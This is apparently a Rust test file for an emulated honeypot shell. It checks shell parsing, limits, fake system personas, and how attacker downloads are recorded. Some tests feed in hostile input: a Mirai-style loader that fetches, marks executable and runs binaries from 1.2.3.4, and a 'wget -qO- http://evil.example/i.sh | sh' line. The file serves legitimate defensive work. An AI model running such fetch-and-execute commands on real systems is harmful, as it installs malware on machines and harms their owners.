//! Behaviour of the emulated shell: parsing, execution, downloads, limits.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod shell_common;

use std::sync::Arc;

use hpti_sensors::shell::{
    BaseImage, FetchTool, FileSystem, Persona, Shell, ShellLimits, ShellOptions, parse, quote,
};
use shell_common::{MockHost, NOW, out, persona, run, shell, shell_with_limits};

#[tokio::test]
async fn basic_control_flow() {
    let mut sh = shell("root");
    assert_eq!(
        out(&mut sh, "for i in 1 2 3; do echo $i; done").await,
        "1\n2\n3\n"
    );
    assert_eq!(out(&mut sh, "x=$(echo hi); echo $x").await, "hi\n");
    assert_eq!(out(&mut sh, "echo `whoami`").await, "root\n");
    assert_eq!(out(&mut sh, "false || echo ok").await, "ok\n");
    assert_eq!(out(&mut sh, "true && echo ok").await, "ok\n");
    assert_eq!(out(&mut sh, "false && echo no; echo $?").await, "1\n");
    assert_eq!(
        out(
            &mut sh,
            "if [ -d /tmp ]; then echo dir; elif true; then echo x; else echo no; fi"
        )
        .await,
        "dir\n"
    );
    assert_eq!(
        out(
            &mut sh,
            "i=0; while [ $i -lt 3 ]; do i=$((i+1)); done; echo $i"
        )
        .await,
        "3\n"
    );
    assert_eq!(
        out(&mut sh, "until true; do echo never; done; echo done").await,
        "done\n"
    );
    assert_eq!(
        out(&mut sh, "case abc in a*) echo A;; *) echo B;; esac").await,
        "A\n"
    );
    assert_eq!(
        out(&mut sh, "f() { echo in $1; return 3; }; f x; echo $?").await,
        "in x\n3\n"
    );
    assert_eq!(out(&mut sh, "( cd /etc; pwd ); pwd").await, "/etc\n/root\n");
    assert_eq!(out(&mut sh, "{ echo a; echo b; } | wc -l").await, "2\n");
    assert_eq!(out(&mut sh, "echo a # comment").await, "a\n");
    assert_eq!(
        out(
            &mut sh,
            "for x in a b c; do [ $x = b ] && continue; echo $x; done"
        )
        .await,
        "a\nc\n"
    );
    assert_eq!(
        out(&mut sh, "echo ${UNSET:-dflt} ${#HOME} ${HOME#/}").await,
        "dflt 5 root\n"
    );
    assert_eq!(
        out(&mut sh, "A=1 sh -c 'echo $A'; echo \"[$A]\"").await,
        "1\n[]\n"
    );
    assert_eq!(out(&mut sh, "export Z=9; env | grep ^Z=").await, "Z=9\n");
    assert_eq!(
        out(&mut sh, "echo \"$USER:$HOME\" '$USER'").await,
        "root:/root $USER\n"
    );
    assert_eq!(out(&mut sh, "echo $((2 ** 10 + 7 % 4))").await, "1027\n");
    assert_eq!(
        out(&mut sh, "echo a; ; echo b").await,
        "-bash: syntax error near unexpected token `;'\n"
    );
    assert_eq!(
        out(&mut sh, "done").await,
        "-bash: syntax error near unexpected token `done'\n"
    );
    assert!(out(&mut sh, "echo $$").await.trim().parse::<u32>().is_ok());
}

#[tokio::test]
async fn unknown_command_and_status() {
    let mut sh = shell("root");
    let mut host = MockHost::default();
    let o = run(&mut sh, &mut host, "foo --bar").await;
    assert_eq!(o.output, b"-bash: foo: command not found\n");
    assert_eq!(o.exit_status, 127);
    let o = sh.exec("foo", &mut host).await;
    assert_eq!(o.output, b"bash: line 1: foo: command not found\n");
    assert_eq!(out(&mut sh, "sh -c foo").await, "sh: 1: foo: not found\n");
}

#[tokio::test]
async fn echo_and_printf_bytes_reach_file_written() {
    let mut sh = shell("root");
    let mut host = MockHost::default();
    let o = run(
        &mut sh,
        &mut host,
        r#"cd /tmp; echo -ne "\x7f\x45\x4c\x46" > .d; echo -ne "\x01\x02" >> .d; printf '\x03\0004' >> .d"#,
    )
    .await;
    assert_eq!(o.exit_status, 0, "{}", String::from_utf8_lossy(&o.output));
    assert_eq!(
        host.written,
        vec![("/tmp/.d".to_string(), b"\x7fELF\x01\x02\x03\x004".to_vec())],
        "one call per file per line, cumulative content"
    );
    // A later line appending reports the file again with its full content.
    run(&mut sh, &mut host, "echo -n Z >> /tmp/.d").await;
    assert_eq!(host.written.last().unwrap().1, b"\x7fELF\x01\x02\x03\x004Z");
    assert_eq!(
        out(&mut sh, "echo -e 'a\\tb\\c'; echo -n x; echo -e '\\0101'").await,
        "a\tbxA\n"
    );
    assert_eq!(
        out(&mut sh, "printf '%s-%d-%5s|%-3s|%b\\n' a 42 r l 'x\\ty'").await,
        "a-42-    r|l  |x\ty\n"
    );
    assert_eq!(out(&mut sh, "printf '%s\\n' a b c").await, "a\nb\nc\n");
}

#[tokio::test]
async fn file_written_even_if_deleted_in_same_line() {
    let mut sh = shell("root");
    let mut host = MockHost::default();
    run(
        &mut sh,
        &mut host,
        "echo payload > /tmp/p; chmod +x /tmp/p; rm -f /tmp/p",
    )
    .await;
    assert_eq!(
        host.written,
        vec![("/tmp/p".to_string(), b"payload\n".to_vec())]
    );
    let mut host = MockHost::default();
    run(
        &mut sh,
        &mut host,
        "echo k > /tmp/a; mv /tmp/a /tmp/b; cp /tmp/b /tmp/c; cat /tmp/c | tee /tmp/d >/dev/null",
    )
    .await;
    let paths: Vec<&str> = host.written.iter().map(|(p, _)| p.as_str()).collect();
    assert_eq!(paths, ["/tmp/b", "/tmp/c", "/tmp/d"]);
}

#[tokio::test]
async fn mirai_style_loader() {
    let bins = b"cd /tmp; wget http://1.2.3.4/x86; chmod +x x86; ./x86 ssh\n\
cd /tmp; wget http://1.2.3.4/arm7 -O arm7; chmod 777 arm7; ./arm7 ssh\n\
busybox wget http://1.2.3.4/mips; chmod +x mips; ./mips\n\
curl -O http://1.2.3.4/sh4; tftp -g -r ppc 1.2.3.4; ftpget 1.2.3.4 m68k m68k\n";
    let elf_x86: Vec<u8> = {
        let mut v = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0".to_vec();
        v.resize(200, 0);
        v
    };
    let elf_arm: Vec<u8> = {
        let mut v = b"\x7fELF\x01\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x28\0".to_vec();
        v.resize(200, 0);
        v
    };
    let mut host = MockHost::default()
        .serve("http://1.2.3.4/bins.sh", bins)
        .serve("http://1.2.3.4/x86", &elf_x86)
        .serve("http://1.2.3.4/arm7", &elf_arm);
    let mut sh = shell("root");
    let o = run(
        &mut sh,
        &mut host,
        "cd /tmp || cd /var/run || cd /mnt; wget http://1.2.3.4/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh",
    )
    .await;
    let text = String::from_utf8_lossy(&o.output);
    assert_eq!(
        host.urls(),
        [
            "http://1.2.3.4/bins.sh",
            "http://1.2.3.4/x86",
            "http://1.2.3.4/arm7",
            "http://1.2.3.4/mips",
            "http://1.2.3.4/sh4",
            "tftp://1.2.3.4/ppc",
            "ftp://1.2.3.4/m68k",
        ]
    );
    let tools: Vec<FetchTool> = host.fetched.iter().map(|r| r.tool).collect();
    assert_eq!(tools[3], FetchTool::Wget);
    assert_eq!(tools[4], FetchTool::Curl);
    assert_eq!(tools[5], FetchTool::Tftp);
    assert_eq!(tools[6], FetchTool::Ftpget);
    assert!(text.contains("Saving to: ‘bins.sh’"), "{text}");
    assert!(
        text.contains("./arm7: cannot execute binary file: Exec format error"),
        "{text}"
    );
    assert!(
        text.contains("Connecting to 1.2.3.4 (1.2.3.4:80)"),
        "{text}"
    );
    assert!(
        text.contains("curl: (7) Failed to connect to 1.2.3.4 port 80"),
        "{text}"
    );
    assert!(sh.filesystem().read_file("/tmp/bins.sh").is_none());
    assert_eq!(sh.filesystem().read_file("/tmp/x86").unwrap(), elf_x86);
    assert_eq!(sh.cwd(), "/tmp");
}

#[tokio::test]
async fn wget_pipe_to_sh_and_curl_stdout() {
    let mut host = MockHost::default().serve(
        "http://evil.example/i.sh",
        b"echo from-script; wget -q http://5.6.7.8/b\n",
    );
    let mut sh = shell("root");
    let o = run(
        &mut sh,
        &mut host,
        "wget -qO- http://evil.example/i.sh | sh",
    )
    .await;
    assert_eq!(String::from_utf8_lossy(&o.output), "from-script\n");
    assert_eq!(
        host.urls(),
        ["http://evil.example/i.sh", "http://5.6.7.8/b"]
    );
    let o = run(&mut sh, &mut host, "curl -s http://evil.example/i.sh").await;
    assert_eq!(o.output, b"echo from-script; wget -q http://5.6.7.8/b\n");
    let o = run(
        &mut sh,
        &mut host,
        "curl -o out.sh http://evil.example/i.sh 2>/dev/null; cat out.sh | head -c 4",
    )
    .await;
    assert_eq!(o.output, b"echo");
}

#[tokio::test]
async fn busybox_checks() {
    let mut sh = shell("root");
    assert_eq!(
        out(&mut sh, "/bin/busybox ECCHI").await,
        "ECCHI: applet not found\n"
    );
    assert_eq!(out(&mut sh, "busybox echo hi").await, "hi\n");
    let banner = out(&mut sh, "busybox").await;
    assert!(banner.starts_with("BusyBox v1.35.0 (Debian 1:1.35.0-4+b3) multi-call binary."));
    assert!(banner.contains("Currently defined functions:"));
    assert_eq!(
        out(&mut sh, "cp /bin/busybox /tmp/bb; /tmp/bb ECCHI").await,
        "ECCHI: applet not found\n"
    );
}

#[tokio::test]
async fn bounded_loops_and_floods() {
    let limits = ShellLimits {
        max_commands: 1000,
        max_output_bytes: 64 * 1024,
        ..ShellLimits::default()
    };
    let mut sh = shell_with_limits("root", limits);
    let mut host = MockHost::default();
    let o = run(&mut sh, &mut host, "while true; do echo x; done").await;
    assert!(!o.output.is_empty() && o.output.len() <= 2000);
    let o = run(&mut sh, &mut host, "while :; do :; done; echo unreachable").await;
    assert!(o.output.is_empty());
    let o = run(&mut sh, &mut host, "cat /dev/urandom").await;
    assert_eq!(o.output.len(), 64 * 1024);
    let o = run(&mut sh, &mut host, "yes | head -n 3").await;
    assert_eq!(o.output, b"y\ny\ny\n");
    let o = run(&mut sh, &mut host, "f() { f; }; f").await;
    assert!(String::from_utf8_lossy(&o.output).contains("Resource temporarily unavailable"));
    let o = run(
        &mut sh,
        &mut host,
        "x=aaaa; while true; do x=$x$x; done; echo ${#x}",
    )
    .await;
    assert!(o.output.is_empty() || o.output.len() < 64);
    // The next line works normally.
    assert_eq!(out(&mut sh, "echo fine").await, "fine\n");
}

#[tokio::test]
async fn overlay_cap_enforced() {
    let limits = ShellLimits {
        max_overlay_bytes: 10_000,
        max_overlay_nodes: 50,
        ..ShellLimits::default()
    };
    let mut sh = shell_with_limits("root", limits);
    let o = out(&mut sh, "head -c 20000 /dev/zero > /tmp/big").await;
    assert!(o.contains("No space left on device"), "{o}");
    assert!(sh.filesystem().overlay_bytes() <= 10_000);
    let o = out(&mut sh, "for i in $(seq 1 100); do touch /tmp/f$i; done").await;
    assert!(o.contains("No space left on device"), "{o}");
    assert!(sh.filesystem().overlay_nodes() <= 50);
}

#[tokio::test]
async fn session_isolation_and_persistence() {
    let persona = Arc::new(persona());
    let base = BaseImage::new(&persona);
    let mut a = Shell::new(ShellOptions::new(
        "root",
        persona.clone(),
        FileSystem::new(base.clone()),
    ));
    let mut b = Shell::new(ShellOptions::new(
        "root",
        persona.clone(),
        FileSystem::new(base.clone()),
    ));
    out(&mut a, "echo secret > /tmp/a; rm -rf /etc/hostname").await;
    assert_eq!(
        out(&mut b, "cat /tmp/a; cat /etc/hostname").await,
        "cat: /tmp/a: No such file or directory\nweb-prod-03\n"
    );
    assert_eq!(
        out(&mut a, "cat /etc/hostname").await,
        "cat: /etc/hostname: No such file or directory\n"
    );
    // Persistence: a later session of the same attacker sees the same files.
    let fs = a.into_filesystem();
    let mut c = Shell::new(ShellOptions::new("root", persona, fs));
    assert_eq!(out(&mut c, "cat /tmp/a").await, "secret\n");
}

#[tokio::test]
async fn permissions_for_normal_user() {
    let mut sh = shell("deploy");
    assert_eq!(sh.prompt(), "deploy@web-prod-03:~$ ");
    assert_eq!(
        out(&mut sh, "cat /etc/shadow").await,
        "cat: /etc/shadow: Permission denied\n"
    );
    assert_eq!(
        out(&mut sh, "touch /etc/x").await,
        "touch: cannot touch '/etc/x': Permission denied\n"
    );
    assert_eq!(
        out(&mut sh, "ls /root").await,
        "ls: cannot open directory '/root': Permission denied\n"
    );
    assert_eq!(
        out(&mut sh, "echo hi > /usr/bin/x").await,
        "-bash: /usr/bin/x: Permission denied\n"
    );
    assert_eq!(out(&mut sh, "sudo id -u").await, "0\n");
    assert_eq!(out(&mut sh, "id -u").await, "1000\n");
    out(&mut sh, "sudo su").await;
    assert_eq!(sh.prompt(), "root@web-prod-03:/home/deploy# ");
    assert!(
        out(&mut sh, "cat /etc/shadow")
            .await
            .starts_with("root:$y$")
    );
    let mut host = MockHost::default();
    let o = sh.run("exit", &mut host).await;
    assert!(!o.exit);
    assert_eq!(sh.user(), "deploy");
    let o = sh.run("exit", &mut host).await;
    assert!(o.exit);
}

#[tokio::test]
async fn scripts_and_sh() {
    let mut sh = shell("root");
    out(
        &mut sh,
        "printf 'echo one\\necho two $1\\n' > /tmp/s.sh; chmod +x /tmp/s.sh",
    )
    .await;
    assert_eq!(out(&mut sh, "sh /tmp/s.sh arg").await, "one\ntwo arg\n");
    assert_eq!(out(&mut sh, "/tmp/s.sh arg").await, "one\ntwo arg\n");
    assert_eq!(out(&mut sh, "cd /tmp; ./s.sh z").await, "one\ntwo z\n");
    assert_eq!(out(&mut sh, "bash -c 'echo $0 $1' a b").await, "a b\n");
    assert_eq!(
        out(
            &mut sh,
            "echo 'echo via source; V=7' > /tmp/v; . /tmp/v; echo $V"
        )
        .await,
        "via source\n7\n"
    );
    assert_eq!(out(&mut sh, "eval 'echo ev'").await, "ev\n");
    assert_eq!(
        out(&mut sh, "cat <<EOF\nhello $USER\nEOF").await,
        "hello root\n"
    );
    assert_eq!(
        out(&mut sh, "./nope").await,
        "-bash: ./nope: No such file or directory\n"
    );
    assert_eq!(
        out(&mut sh, "touch /tmp/ne; /tmp/ne").await,
        "-bash: /tmp/ne: Permission denied\n"
    );
}

#[tokio::test]
async fn pipes_redirections_and_text_tools() {
    let mut sh = shell("root");
    assert_eq!(
        out(&mut sh, "cat /proc/cpuinfo | grep name | wc -l").await,
        "2\n"
    );
    assert_eq!(
        out(
            &mut sh,
            "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'"
        )
        .await,
        "Intel(R) Xeon(R) CPU E5-2680 v4 @\n"
    );
    assert_eq!(out(&mut sh, "ls /nonexistent 2>&1 | wc -l").await, "1\n");
    assert_eq!(
        out(&mut sh, "ls /nonexistent 2>/dev/null; echo $?").await,
        "2\n"
    );
    assert_eq!(out(&mut sh, "echo a b c | cut -d' ' -f2").await, "b\n");
    assert_eq!(out(&mut sh, "echo hello | sed 's/l/L/g'").await, "heLLo\n");
    assert_eq!(out(&mut sh, "echo hello | tr a-z A-Z").await, "HELLO\n");
    assert_eq!(
        out(&mut sh, "printf 'b\\na\\nb\\n' | sort | uniq -c").await,
        "      1 a\n      2 b\n"
    );
    assert_eq!(out(&mut sh, "echo aGk= | base64 -d").await, "hi");
    assert_eq!(
        out(&mut sh, "echo -n hi | md5sum").await,
        "49f68a5c8493ec2c0bf489821c21fc3b  -\n"
    );
    assert_eq!(out(&mut sh, "grep -c processor /proc/cpuinfo").await, "2\n");
    assert_eq!(
        out(&mut sh, "head -1 /etc/passwd | cut -d: -f1,7").await,
        "root:/bin/bash\n"
    );
    assert_eq!(out(&mut sh, "echo x &> /tmp/o; cat /tmp/o").await, "x\n");
    assert_eq!(out(&mut sh, "echo y 1>&2 2>/dev/null").await, "y\n");
    assert_eq!(out(&mut sh, "cat < /etc/hostname").await, "web-prod-03\n");
    assert_eq!(out(&mut sh, "cat <<< word").await, "word\n");
    assert_eq!(
        out(&mut sh, "echo a > /tmp/g; echo /tmp/g*").await,
        "/tmp/g\n"
    );
    assert_eq!(
        out(&mut sh, "echo /etc/host*").await,
        "/etc/hostname /etc/hosts\n"
    );
    assert_eq!(out(&mut sh, "echo '/etc/host*'").await, "/etc/host*\n");
}

#[tokio::test]
async fn persona_consistency() {
    let mut sh = shell("root");
    let meminfo = out(&mut sh, "cat /proc/meminfo").await;
    let total_line = meminfo.lines().next().unwrap();
    let mem_total: u64 = total_line
        .split_whitespace()
        .nth(1)
        .unwrap()
        .parse()
        .unwrap();
    let free = out(&mut sh, "free").await;
    let free_total: u64 = free
        .lines()
        .nth(1)
        .unwrap()
        .split_whitespace()
        .nth(1)
        .unwrap()
        .parse()
        .unwrap();
    assert_eq!(mem_total, free_total);
    let free_free: u64 = free
        .lines()
        .nth(1)
        .unwrap()
        .split_whitespace()
        .nth(3)
        .unwrap()
        .parse()
        .unwrap();
    let memfree: u64 = meminfo
        .lines()
        .nth(1)
        .unwrap()
        .split_whitespace()
        .nth(1)
        .unwrap()
        .parse()
        .unwrap();
    assert_eq!(free_free, memfree);
    let nproc: usize = out(&mut sh, "nproc").await.trim().parse().unwrap();
    assert_eq!(
        nproc,
        out(&mut sh, "grep -c ^processor /proc/cpuinfo")
            .await
            .trim()
            .parse::<usize>()
            .unwrap()
    );
    assert_eq!(
        out(&mut sh, "hostname").await,
        out(&mut sh, "cat /etc/hostname").await
    );
    assert!(
        out(&mut sh, "uname -a")
            .await
            .contains(&out(&mut sh, "uname -r").await.trim().to_string())
    );
    assert!(
        out(&mut sh, "cat /proc/version")
            .await
            .contains("6.1.0-18-amd64")
    );
    assert!(out(&mut sh, "ip a").await.contains("10.0.3.17/16"));
    assert!(
        out(&mut sh, "ifconfig")
            .await
            .contains("inet 10.0.3.17  netmask 255.255.0.0  broadcast 10.0.255.255")
    );
}

#[test]
fn generated_personas_vary_and_roundtrip() {
    let a = Persona::generate();
    let b = Persona::generate();
    let c = Persona::generate();
    assert!(a != b || b != c, "three identical random personas");
    assert!((1..=8).contains(&a.cpu_cores));
    assert!(a.mem_total_kib >= 900 * 1024 && a.mem_total_kib <= 16 * 1024 * 1024);
    assert!(a.hostname != "svr04" && a.users.iter().all(|u| u.name != "phil"));
    let json = serde_json::to_string(&a).unwrap();
    let back: Persona = serde_json::from_str(&json).unwrap();
    assert_eq!(a, back);
}

#[tokio::test]
async fn generated_persona_shell_works() {
    for seed in 0..20 {
        let p = Arc::new(Persona::generate_with(&mut fastrand::Rng::with_seed(seed)));
        let base = BaseImage::new(&p);
        let mut sh = Shell::new(ShellOptions::new("root", p.clone(), FileSystem::new(base)));
        assert!(sh.motd().contains(&p.kernel_release));
        assert_eq!(out(&mut sh, "hostname").await, format!("{}\n", p.hostname));
        assert_eq!(out(&mut sh, "nproc").await, format!("{}\n", p.cpu_cores));
        for cmd in [
            "w",
            "ps aux",
            "df -h",
            "free -m",
            "lscpu",
            "top",
            "ss -tulpn",
            "last",
            "uptime",
        ] {
            let o = out(&mut sh, cmd).await;
            assert!(
                !o.is_empty() && !o.contains("command not found"),
                "{cmd}: {o}"
            );
        }
    }
}

#[tokio::test]
async fn every_image_binary_is_implemented() {
    let mut sh = shell("root");
    let bins = out(&mut sh, "ls /usr/bin /usr/sbin").await;
    for name in bins.lines().filter(|l| !l.is_empty() && !l.ends_with(':')) {
        let o = out(&mut sh, &format!("type {name} >/dev/null && which {name}")).await;
        assert!(o.starts_with('/'), "{name}: {o}");
    }
    assert_eq!(
        out(&mut sh, "which wget").await,
        "/usr/sbin/wget\n".replace("sbin", "bin")
    );
}

#[test]
fn quoting_roundtrip_examples() {
    for words in [
        vec!["echo", "a b", "it's", "$HOME", "`x`", "", "\\", "\"q\""],
        vec!["x;y", "a|b", "*", "~", "#c", "\n"],
    ] {
        let line = quote(&words);
        let list = parse(&line).unwrap();
        let got = simple_words(&list).unwrap();
        assert_eq!(got, words);
    }
}

fn simple_words(list: &hpti_sensors::shell::parser::List) -> Option<Vec<String>> {
    use hpti_sensors::shell::parser::Command;
    let item = list.first()?;
    let cmd = item.and_or.first.commands.first()?;
    match cmd {
        Command::Simple(s) => s.words.iter().map(|w| w.literal_text()).collect(),
        _ => None,
    }
}

#[tokio::test]
async fn memory_per_session_is_small() {
    let persona = Arc::new(persona());
    let base = BaseImage::new(&persona);
    let mut shells = Vec::with_capacity(10_000);
    for _ in 0..10_000 {
        let mut o = ShellOptions::new("root", persona.clone(), FileSystem::new(base.clone()));
        o.clock = hpti_sensors::shell::Clock::Fixed(NOW);
        shells.push(Shell::new(o));
    }
    // Fresh sessions share the image: nothing is copied into their overlays.
    assert!(
        shells
            .iter()
            .all(|s| s.filesystem().overlay_bytes() == 0 && s.filesystem().overlay_nodes() == 0)
    );
    assert_eq!(Arc::strong_count(&base), 10_001);
    assert!(std::mem::size_of::<Shell>() < 1024);
}

#[tokio::test]
async fn exit_and_history() {
    let mut sh = shell("root");
    let mut host = MockHost::default();
    run(&mut sh, &mut host, "echo one").await;
    run(&mut sh, &mut host, "uname -a").await;
    assert_eq!(
        out(&mut sh, "history").await,
        "    1  echo one\n    2  uname -a\n    3  history\n"
    );
    let o = run(&mut sh, &mut host, "exit 3; echo no").await;
    assert!(o.exit);
    assert_eq!(o.exit_status, 3);
    assert_eq!(o.output, b"logout\n");
    let o = run(&mut sh, &mut host, "sh -c 'exit 4'; echo $?").await;
    assert!(!o.exit);
    assert_eq!(o.output, b"4\n");
}

#[test]
fn run_future_is_send() {
    fn assert_send<T: Send>(_: &T) {}
    let mut sh = shell("root");
    let mut host = MockHost::default();
    let fut = sh.run("echo", &mut host);
    assert_send(&fut);
}

#[tokio::test]
async fn su_and_elf_decisions() {
    let mut sh = shell("deploy");
    assert_eq!(out(&mut sh, "su -; whoami; pwd").await, "root\n/root\n");
    let mut host = MockHost::default();
    assert!(!sh.run("exit", &mut host).await.exit);
    assert_eq!(sh.user(), "deploy");
    let o = out(
        &mut sh,
        "printf '\\177ELF\\2\\1\\1' > x; head -c 64 /dev/zero >> x; chmod +x x; ./x; echo $?",
    )
    .await;
    assert_eq!(
        o,
        "-bash: ./x: cannot execute binary file: Exec format error\n126\n"
    );
    assert_eq!(
        out(
            &mut sh,
            "echo 'root:x' | chpasswd; echo -e 'a\\na' | passwd 2>&1 | tail -1"
        )
        .await,
        // /usr/sbin is not on a normal user's PATH on Debian.
        "-bash: chpasswd: command not found\npasswd: password updated successfully\n"
    );
}
